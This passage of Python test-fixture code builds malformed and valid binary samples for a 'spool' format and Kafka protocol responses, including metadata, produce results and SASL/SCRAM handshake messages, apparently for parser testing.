    "sound": segment(A, B), "torn": segment(A, B[:-3]), "hurt-head": segment(A, b"\xfe" + B[1:], A), "hurt-payload": segment(A[:-1], b"!", B),
    "unknown-kind": segment(A, D, frame(13, b"{}", more=b"new!")), "newer": segment(A, major=2), "second-header": b"\0" * 512 + segment(A)[512:],
    "markers": segment(b"\xffTR\xfe\x01\xff" * 40, B),
}.items():
    put("spool", name, b"\0" + data)
put("spool", "script", bytes([1, 5, 9, 65, 200, 0, 0, 66, 30, 0x80, 17, 0x85, 200, 0x91, 3]))

# --- kafka --------------------------------------------------------------------------------------


def text(value):
    return struct.pack(">h", -1) if value is None else struct.pack(">h", len(value)) + value


def items(*each):
    return struct.pack(">i", len(each)) + b"".join(each)


KINDS = items(*(struct.pack(">hhh", *kind) for kind in [(0, 3, 12), (3, 0, 13), (18, 0, 4), (22, 0, 5)]))
BROKERS = items(*(struct.pack(">i", n) + text(b"b.example") + struct.pack(">i", 9092) + text(None) for n in (1, 2)))
PARTITIONS = items(*(struct.pack(">hii", 0, n, n) + items(struct.pack(">i", 1)) * 2 for n in (1, 0, -1)))
TOPIC = struct.pack(">h", 0) + text(b"t") + b"\0" + PARTITIONS
APPENDED = struct.pack(">ihqqq", 0, 0, 7, -1, 0)
REFUSED = struct.pack(">ihqqq", 1, 87, -1, -1, -1)
for name, data in {
    "versions": b"\0\0\0" + KINDS,
    "layout": b"\1" + bytes(4) + BROKERS + text(b"cluster") + struct.pack(">i", 1) + items(TOPIC),
    "produced-7": b"\2" + items(text(b"t") + items(APPENDED, REFUSED)) + bytes(4),
    "produced-8": b"\3" + items(text(b"t") + items(APPENDED + items() + text(None), REFUSED + items(struct.pack(">i", 3) + text(b"no")) + text(b"why"))) + bytes(4),
    "producer": b"\4" + struct.pack(">ihqh", 0, 0, 4711, 0),
    "handshake": b"\5" + struct.pack(">h", 33) + items(text(b"PLAIN"), text(b"SCRAM-SHA-512")),
    "step": b"\6" + struct.pack(">h", 0) + text(None) + struct.pack(">i", 3) + b"v=a" + struct.pack(">q", 3600000),
    "challenge": b"\7r=nxyz,s=W22ZaJ0SNY7soEsUEjb6gQ==,i=4096", "signature": b"\7v=6rriTRBi23WpRR/wtup+mMhUZUn/dB5nLTJRsjl95G4=",
    "no-bytes-for-it": b"\1" + bytes(4) + b"\x7f\xff\xff\xff",
}.items():
    put("kafka", name, data)
